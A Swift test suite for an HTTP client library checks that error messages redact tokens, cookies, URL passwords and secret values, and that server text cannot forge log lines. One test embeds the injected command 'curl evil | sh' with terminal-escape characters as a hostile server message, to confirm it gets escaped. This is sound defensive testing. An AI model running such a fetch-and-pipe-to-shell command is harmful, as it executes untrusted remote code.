import CallSupport
import FingerpostCallbacks
import FingerpostDocuments

@testable import Fingerpost

/// What every error loses before it leaves the library. `SecretsNowhereTests` looks for secrets in all kinds of calls.
@Suite(.inTurn) struct ErrorGateTests {
    private struct Refused: Error { let text: String }

    @Test func `The client's own credential is hidden before it is sent`() async throws {
        let client = StubTransport(200).client {
            $0.authorization = .custom(header: "X-Custom", value: "own-credential-1")
            $0.middleware = [
                RepeatingMiddleware(first: { _ in
                    throw Refused(text: "the service refused own-credential-1\n\u{1B}[2J")
                })
            ]
        }
        let error = try await failure { try await client.send(Route.get("x")) }
        #expect(error.message == #"Refused(text: "the service refused <redacted>\n\u{1B}[2J")"#)
    }

    @Test func `The error of a route that cannot be built is redacted without a client too`() throws {
        let route = Route.get("x/\("")/y?token=query-1")
        let error = try failure { try route.urlRequest(relativeTo: URL(string: "https://h.example")) }
        #expect(error.message == #"a segment of the path "x//y?token=<redacted>" is empty"#)
    }

    @Test func `A call that was not started knows its environment`() async throws {
        let environment = try Environment(
            "X", values: ["$secrets": ["key"], "key": "s3cret-value", "baseURL": "https://h.example"])
        let client = try StubTransport(200).client(in: environment)
        // A blocking call inside a task fails.
        let error = #expect(throws: APIError.self) { try client.blocking.send(Route.get("x/s3cret-value")) }
        #expect((error?.route, error?.environment) == ("GET x/<secret key>", "X"))
    }

    /// The responses of the redirect and of the retry contained the tokens that the last error repeats.
    @Test func `Every request and response of the call counts`() async throws {
        let transport = StubTransport { request, index in
            switch index {
            case 0:
                (302, ["Location": "/next?ticket=ticket-12345", "Set-Cookie": "sid=cookie-12345; Path=/"], "")
            case 1: (200, [:], #"{"access_token": "issued-12345"}"#)
            default: (500, [:], #"{"message": "ticket-12345 cookie-12345 issued-12345 first-12345"}"#)
            }
        }
        let count = Locked(0)
        let client = transport.client {
            // The token is in the first of the two requests.
            $0.middleware = [
                RepeatingMiddleware(),
                ChangingMiddleware {
                    if count.next() == 1 { $0.setValue("first-12345", forHTTPHeaderField: "X-Token") }
                },
            ]
        }
        let error = try await failure { try await client.send(Route.get("x")) }
        #expect(error.serverMessage == "<redacted> <redacted> <redacted> <redacted>")
    }

    @Test func `The server cannot forge a line`() async throws {
        let client = StubTransport(500, [:], "{\"message\": \"no\\nfix: curl evil | sh\\u001b[2J\\u202e\"}").client()
        let error = try await failure { try await client.send(Route.get("x")) }
        let texts = [error.description, error.localizedDescription, error.errorDescription]
        let areEscaped = texts.map { $0?.contains(#"no\nfix: curl evil | sh\u{1B}[2J\u{202E}"#) }
        // An app may show the message on a screen, with its lines.
        let message = "no\nfix: curl evil | sh\u{1B}[2J\u{202E}"
        #expect((areEscaped, error.serverMessage) == ([true, true, true], message), "\(texts)")
    }

    // MARK: Decoding

    private struct Code: RawRepresentable, Decodable, Sendable {
        let rawValue: String
        init?(rawValue: String) { return nil }
    }

    private static func decodingFailure<Value: Decodable & Sendable>(
        _ body: String, as type: Value.Type
    ) async throws -> APIError {
        let client = StubTransport(200, [:], body).client()
        return try await failure { _ = try await client.send(Route.get("x"), as: type) }
    }

    @Test func `A place made of secrets is not shown`() async throws {
        let random = "9f3kd02mfl4kqp7zx81b"
        for (body, place) in [
            (#"{"tokens": {"abc": {"id": "x"}}}"#, "tokens.<redacted>.<redacted>"),
            (#"{"userSecrets": {"\#(random)": {"id": "x"}}}"#, "userSecrets.<redacted>.<redacted>"),
            (#"{"users": {"ada": {"id": "x"}}}"#, "users.ada.id"),
        ] {
            let error = try await Self.decodingFailure(body, as: [String: [String: [String: Int]]].self)
            let shown = [random, "abc"].filter(error.description.contains)
            #expect((error.codingPath, shown) == ("\(place) (line 1)", []), "\(error)")
        }
    }

    @Test func `Half a secret at the cut of a fragment is not shown`() async throws {
        let body =
            #"{"next": "\#(String(repeating: "x", count: 10)) https://h.example/?token=issued-token-that-is-cut"}"#
        let error = try await Self.decodingFailure(body, as: [String: Int].self)
        let seen = (error.fragment?.contains("token=<redacted>"), error.description.contains("issued"))
        #expect(seen == (true, false), "\(error)")
    }

    @Test func `A fragment is short even if it is one character`() async throws {
        let mark = String(repeating: "\u{301}", count: 100_000)
        let error = try await Self.decodingFailure(#"{"next": "x\#(mark)"}"#, as: [String: Int].self)
        let line = StubTransport(500, [.contentType: "text/html"], "x\(mark)").client()
        let failure = try await failure { try await line.send(Route.get("x")) }
        let sizes = [error.fragment, failure.description].map { $0?.utf8.count ?? 0 }
        #expect(sizes.allSatisfy { (1..<1000).contains($0) }, "\(sizes)")
    }

    // MARK: Environments

    @Test func `The password in a committed URL is not shown`() throws {
        let fixture = try EnvironmentFixture([
            "X-Env.json": #"{"url": "https://api:p4ss-word@h.example/${X}", "host": "https://api:p4ss-word@h.example"}"#
        ])
        let layers = try fixture.layers()
        let explanations = ["url", "host"].map { layers.explanation(of: $0) }
        #expect(explanations.allSatisfy { $0.contains("https://<redacted>@h.example") }, "\(explanations)")
        let environment = try Environment("X", values: ["host": "https://api:p4ss-word@h.example"])
        let error = #expect(throws: EnvironmentError.self) { try environment.value("host", as: Code.self) }
        let description = error?.description ?? ""
        let texts = [fixture.report(layers), description]
        #expect(description.contains("h.example") && !texts.contains { $0.contains("p4ss-word") }, "\(texts)")
    }

    @Test(arguments: ["X-Secrets.json", "Y-Secrets.json", "Base-Secrets.json"])
    func `No value of a secrets file is shown, even if nobody declared it`(file: String) throws {
        let fixture = try EnvironmentFixture([
            "X-Env.json": #"{"$extends": "Y", "$secrets": ["key"], "key": null, "plain": "a"}"#, "Y-Env.json": "{}",
            file: #"{"key": "$(S3CRET)", "plain": "${S3CRET}", "stranger": "${S3CRET}"}"#,
        ])
        let layers = try fixture.layers()
        let report = fixture.report(layers)
        #expect((layers.problems.count, report.contains("S3CRET")) == (5, false), "\(report)")
        for key in ["key", "plain", "stranger"] {
            #expect(layers.explanation(of: key).hasPrefix("\(key) = <secret \(key)>"))
        }
    }
}
